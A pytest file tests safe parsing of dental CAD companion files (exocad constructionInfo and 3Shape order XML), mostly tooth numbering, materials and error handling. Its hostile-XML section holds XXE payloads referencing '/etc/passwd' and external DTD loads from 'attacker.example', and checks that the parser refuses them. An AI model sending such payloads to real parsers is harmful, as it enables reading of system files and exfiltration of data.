"""CAD companion files (G20): exocad constructionInfo and 3Shape order XML, read safely."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.transfer.companions import (
    MAX_COMPANION_BYTES,
    ExocadTooth,
    InvalidCompanion,
    ThreeShapeTooth,
    UnsafeXml,
    read_3shape_order,
    read_exocad_construction_info,
)
from gateway.transfer.formats import MediaKind, classify
from gateway.transfer.teeth import ToothNumber

SAMPLES = Path(__file__).parent / "samples"


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


# --- exocad ----------------------------------------------------------------------------------------------------


def test_exocad_bridge() -> None:
    data = sample("bridge_24-26.constructionInfo")
    assert classify("bridge_24-26.constructionInfo", data).kind is MediaKind.EXOCAD_CONSTRUCTION_INFO
    project = read_exocad_construction_info(data)
    assert project.project_guid == "{6F9619FF-8B86-D011-B42D-00C04FC964FF}"
    assert project.teeth == (
        ExocadTooth("24", ToothNumber(24, "FDI", "24"), "Crown"),
        ExocadTooth("25", ToothNumber(25, "FDI", "25"), "Pontic"),
        ExocadTooth("26", ToothNumber(26, "FDI", "26"), "Crown"),
    )
    assert [tooth.tooth.universal for tooth in project.teeth if tooth.tooth] == ["12", "13", "14"]
    assert project.materials == ("Zirconia",)  # one per tooth in the file, kept once
    assert project.warnings == ()


def test_exocad_materials_distinct_in_order_and_none_when_absent() -> None:
    data = (
        b"<ConstructionInfo><Teeth>"
        b"<Tooth><Number>36</Number><Material> IPS e.max CAD </Material></Tooth>"
        b"<Tooth><Number>37</Number><Material>Zirconia</Material></Tooth>"
        b"<Tooth><Number>46</Number><Material>IPS e.max CAD</Material></Tooth>"
        b"<Tooth><Number>47</Number><Material/></Tooth>"
        b"</Teeth></ConstructionInfo>"
    )
    assert read_exocad_construction_info(data).materials == ("IPS e.max CAD", "Zirconia")
    assert read_exocad_construction_info(sample("incomplete.constructionInfo")).materials == ()


def test_exocad_tolerates_missing_fields() -> None:
    project = read_exocad_construction_info(sample("incomplete.constructionInfo"))
    assert project.project_guid is None
    assert project.teeth == (
        ExocadTooth("11", ToothNumber(11, "FDI", "11"), None),
        ExocadTooth(None, None, "Inlay"),
        ExocadTooth("19", None, "Crown"),  # 19 is no FDI tooth: kept as written, flagged
    )
    assert "no ProjectGUID" in project.warnings
    assert "tooth 1: no ReconstructionType" in project.warnings
    assert "tooth 2: no tooth number" in project.warnings
    assert any(warning.startswith("tooth 3: '19' is not an FDI tooth number") for warning in project.warnings)


def test_exocad_minimal_and_namespaced() -> None:
    project = read_exocad_construction_info(b"<ConstructionInfo/>")
    assert (project.project_guid, project.teeth) == (None, ())
    assert "no <Teeth><Tooth> elements" in project.warnings
    namespaced = (
        b'<c:ConstructionInfo xmlns:c="urn:example"><c:ProjectGUID> abc </c:ProjectGUID>'
        b"<c:Teeth><c:Tooth><c:Number>36</c:Number><c:ReconstructionType>Inlay</c:ReconstructionType></c:Tooth>"
        b"</c:Teeth></c:ConstructionInfo>"
    )
    project = read_exocad_construction_info(namespaced)
    assert project.project_guid == "abc"
    assert project.teeth == (ExocadTooth("36", ToothNumber(36, "FDI", "36"), "Inlay"),)


def test_exocad_wrong_root_and_broken_xml() -> None:
    with pytest.raises(InvalidCompanion, match="root <ConstructionInfo>"):
        read_exocad_construction_info(sample("2024-0815-0042.xml"))
    with pytest.raises(InvalidCompanion, match="not well-formed") as caught:
        read_exocad_construction_info(b"<ConstructionInfo><Teeth>")
    assert (caught.value.code, caught.value.status) == ("invalid-companion", 422)
    with pytest.raises(InvalidCompanion, match="unknown text encoding"):
        read_exocad_construction_info(b'<?xml version="1.0" encoding="utf-9"?><ConstructionInfo/>')
    with pytest.raises(InvalidCompanion, match="empty"):
        read_exocad_construction_info(b"  \n")
    with pytest.raises(InvalidCompanion, match="bytes"):
        read_exocad_construction_info("<ConstructionInfo/>")  # type: ignore[arg-type]


# --- 3Shape ----------------------------------------------------------------------------------------------------


def test_3shape_order() -> None:
    data = sample("2024-0815-0042.xml")
    assert classify("2024-0815-0042.xml", data).kind is MediaKind.THREESHAPE_ORDER
    order = read_3shape_order(data)
    assert order.order_id == "2024-0815-0042"
    assert order.container_version == "2022-1"
    assert (order.numbering_system, order.numbering_declared) == ("Universal", False)
    assert order.teeth == (
        ThreeShapeTooth("12", ToothNumber(24, "Universal", "12"), "teCrown", "Zirkon"),
        ThreeShapeTooth("13", ToothNumber(25, "Universal", "13"), "teCrownPontic", "Zirkon"),
        ThreeShapeTooth("14", ToothNumber(26, "Universal", "14"), "teCrown", "Zirkon"),
        ThreeShapeTooth("30", ToothNumber(46, "Universal", "30"), "teCrown", "IPS e.max CAD"),
    )
    assert order.materials == ("Zirkon", "IPS e.max CAD")
    assert order.warnings == ()


def test_3shape_declared_fdi_numbering() -> None:
    data = (
        b'<DentalContainer version="2022-1"><Object name="MainObject" type="TDM_Container">'
        b'<Property name="ToothNumberingSystem" value="FDI"/>'
        b'<Object type="TDM_Item_Order"><Property name="OrderID" value="A-1"/></Object>'
        b'<Object type="TDM_Item_ToothElement"><Property name="ToothNumber" value="11"/></Object>'
        b'<Object type="TDM_Item_ToothElement"><Property name="ToothNumber" value="55"/></Object>'
        b"</Object></DentalContainer>"
    )
    order = read_3shape_order(data)
    assert (order.order_id, order.numbering_system, order.numbering_declared) == ("A-1", "FDI", True)
    assert [tooth.tooth for tooth in order.teeth] == [ToothNumber(11, "FDI", "11"), ToothNumber(55, "FDI", "55")]
    assert order.materials == ()


def test_3shape_tolerates_missing_fields() -> None:
    data = (
        b"<DentalContainer><Object>"
        b'<Object type="TDM_Item_ToothElement"><Property name="CacheToothTypeClass" value="teSplint"/></Object>'
        b'<Object type="TDM_Item_ToothElement"><Property name="ToothNumber" value="33"/></Object>'
        b"</Object></DentalContainer>"
    )
    order = read_3shape_order(data)
    assert (order.order_id, order.container_version) == (None, None)
    assert order.teeth == (ThreeShapeTooth(None, None, "teSplint", None), ThreeShapeTooth("33", None, None, None))
    assert "tooth element 1: no tooth number" in order.warnings
    assert any("'33' is not a Universal tooth number" in warning for warning in order.warnings)
    assert any("no order id" in warning for warning in order.warnings)
    empty = read_3shape_order(b"<DentalContainer/>")
    assert empty.teeth == () and "no TDM_Item_ToothElement objects" in empty.warnings


def test_3shape_wrong_root() -> None:
    with pytest.raises(InvalidCompanion, match="root <DentalContainer>"):
        read_3shape_order(sample("bridge_24-26.constructionInfo"))


# --- hostile XML -----------------------------------------------------------------------------------------------


def test_xxe_is_refused() -> None:
    data = sample("xxe.constructionInfo")
    assert b"file:///etc/passwd" in data
    with pytest.raises(UnsafeXml, match="DTD") as caught:
        read_exocad_construction_info(data)
    assert (caught.value.code, caught.value.status) == ("unsafe-xml", 422)
    assert isinstance(caught.value, InvalidCompanion)
    assert "root:" not in caught.value.detail


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(UnsafeXml, match="DTD"):
        read_3shape_order(sample("billion_laughs.xml"))


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE DentalContainer SYSTEM "http://attacker.example/dtd"><DentalContainer/>',
        b'<!DOCTYPE DentalContainer [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><DentalContainer/>',
        b"<!DOCTYPE DentalContainer><DentalContainer/>",
    ],
)
def test_any_dtd_is_refused(document: bytes) -> None:
    with pytest.raises(UnsafeXml):
        read_3shape_order(document)


def test_oversized_companion_is_refused_before_parsing() -> None:
    with pytest.raises(InvalidCompanion, match=f"at most {MAX_COMPANION_BYTES}"):
        read_3shape_order(b"<DentalContainer>" + b" " * MAX_COMPANION_BYTES + b"</DentalContainer>")
